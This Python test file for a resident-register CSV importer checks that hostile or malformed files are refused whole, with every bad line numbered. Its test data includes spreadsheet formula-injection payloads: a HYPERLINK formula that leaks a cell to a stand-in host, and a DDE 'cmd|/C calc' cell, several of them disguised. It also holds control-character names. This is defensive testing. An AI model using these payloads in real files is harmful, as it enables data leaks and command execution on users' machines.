"""Hostile register files: whatever the bytes, the import either takes the whole file or refuses
it with every bad line named, and never writes half of it."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from madoguchi.resident_import import ImportRejected
from tests.madoguchi.test_resident_import import (
    GOOD_LINES,
    HEADER,
    count_residents,
    run_import,
    write_csv,
)

FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"詳細")'
COLUMNS_AND_CELLS = {
    "resident_no": 0, "name": 1, "name_kana": 2, "birth_date": 3, "language": 5,
}


def line_with(column: str, value: str) -> str:
    """The first good line with one cell replaced, quoted as a spreadsheet would write it."""
    cells = next(csv.reader([GOOD_LINES[0]]))
    cells[COLUMNS_AND_CELLS[column]] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="").writerow(cells)
    return out.getvalue()


@pytest.mark.parametrize("column", list(COLUMNS_AND_CELLS))
# The ways a formula hides at the start of a cell: as is, behind spaces or a tab, full width.
@pytest.mark.parametrize("cell", [FORMULA, " " + FORMULA, "\t" + FORMULA, "　" + FORMULA,
                                  '＝HYPERLINK("http://x.example")', "@SUM(1+1)*cmd|' /C calc'!A0"],
                         ids=["plain", "space", "tab", "ideographic-space", "full-width", "at"])
def test_a_formula_in_any_column_however_disguised_refuses_the_file(
    db_session, tmp_path, column, cell
):
    path = write_csv(tmp_path, [GOOD_LINES[1], line_with(column, cell)])
    with pytest.raises(ImportRejected) as refused:
        run_import(db_session, path)
    assert [(number, column in message) for number, message in refused.value.problems] == [
        (3, True)]
    assert "式として動く" in str(refused.value) and "spreadsheet formula" in str(refused.value)
    assert count_residents(db_session) == 0


@pytest.mark.parametrize("name", ["山田\x00太郎", "山田\x1b[31m太郎", "山田\u202e郎太", "\x7f山田"],
                         ids=["nul", "escape", "right-to-left-override", "delete"])
def test_a_name_with_control_characters_is_refused_with_its_line(db_session, tmp_path, name):
    path = write_csv(tmp_path, [GOOD_LINES[1], line_with("name", name)])
    with pytest.raises(ImportRejected) as refused:
        run_import(db_session, path)
    assert [number for number, _ in refused.value.problems] == [3]
    assert "制御文字" in refused.value.problems[0][1]
    assert "control character" in refused.value.problems[0][1]
    assert count_residents(db_session) == 0


def test_a_utf16_file_is_refused_saying_how_to_save_it(db_session, tmp_path):
    path = write_csv(tmp_path, GOOD_LINES, encoding="utf-16")
    with pytest.raises(ImportRejected) as refused:
        run_import(db_session, path)
    assert "UTF-16" in str(refused.value) and "UTF-8かShift_JIS" in str(refused.value)
    assert count_residents(db_session) == 0


def test_a_spreadsheet_saved_as_xlsx_instead_of_csv_is_refused(db_session, tmp_path):
    path = tmp_path / "residents.csv"
    with zipfile.ZipFile(path, "w") as book:
        book.writestr("xl/worksheets/sheet1.xml", "<worksheet>" + "\u3042" * 50 + "</worksheet>")
    with pytest.raises(ImportRejected) as refused:
        run_import(db_session, path)
    assert refused.value.problems
    assert count_residents(db_session) == 0


def test_missing_columns_duplicates_and_impossible_dates_are_all_reported_together(
    db_session, tmp_path
):
    lines = [GOOD_LINES[0], GOOD_LINES[0].replace("山田", "山本"),
             "100005,佐藤 一,サトウ ハジメ,2023-13-01,,", "100006,佐藤 二,サトウ ニ,1950-02-29,,",
             "100007,佐藤 三,サトウ サン,1950-01-01"]
    with pytest.raises(ImportRejected) as refused:
        run_import(db_session, write_csv(tmp_path, lines))
    assert sorted({number for number, _ in refused.value.problems}) == [2, 3, 4, 5, 6]
    assert count_residents(db_session) == 0


# Cells a clerk's file might hold, good and bad, and whole files of arbitrary bytes.
cells = st.one_of(
    st.sampled_from(["100001", "山田 太郎", "ヤマダ タロウ", "1948-05-17", "090-1234-5678", "ja",
                     "", "=1+1", "@A1", "1948-02-30", "+81-90-1234-5678", "en", "ﾔﾏﾀﾞ"]),
    st.text(st.characters(blacklist_categories=("Cs",)), max_size=20),
)
rows = st.lists(st.lists(cells, min_size=4, max_size=7), max_size=6)


@settings(max_examples=60, deadline=None, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=rows, encoding=st.sampled_from(["utf-8", "utf-8-sig", "cp932"]))
def test_any_file_is_either_imported_whole_or_refused_with_numbered_problems(
    db_session, tmp_path, rows, encoding
):
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    try:
        raw = (HEADER + "\r\n" + out.getvalue()).encode(encoding)
    except UnicodeEncodeError:
        return  # not writable in Shift_JIS: a clerk's export could not contain it either
    before = count_residents(db_session)
    path = tmp_path / "fuzz.csv"
    path.write_bytes(raw)
    try:
        report = run_import(db_session, path)
    except ImportRejected as refused:
        assert refused.problems
        # Lines as an editor shows them: a lone CR ends a line too, as it does for the importer.
        total_lines = len(io.StringIO(raw.decode(encoding), newline="").readlines()) + 1
        for number, message in refused.problems:
            assert 0 <= number <= total_lines and message.strip()
        db_session.rollback()
        assert count_residents(db_session) == before
    else:
        assert report.rows == len([row for row in rows if any(c.strip() for c in row)])
        db_session.rollback()


@settings(max_examples=40, deadline=None, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(raw=st.binary(max_size=300))
def test_any_bytes_at_all_are_refused_or_imported_never_a_crash(db_session, tmp_path, raw):
    path = tmp_path / "bytes.csv"
    path.write_bytes(HEADER.encode() + b"\n" + raw)
    try:
        run_import(db_session, path)
    except ImportRejected as refused:
        assert refused.problems
    db_session.rollback()
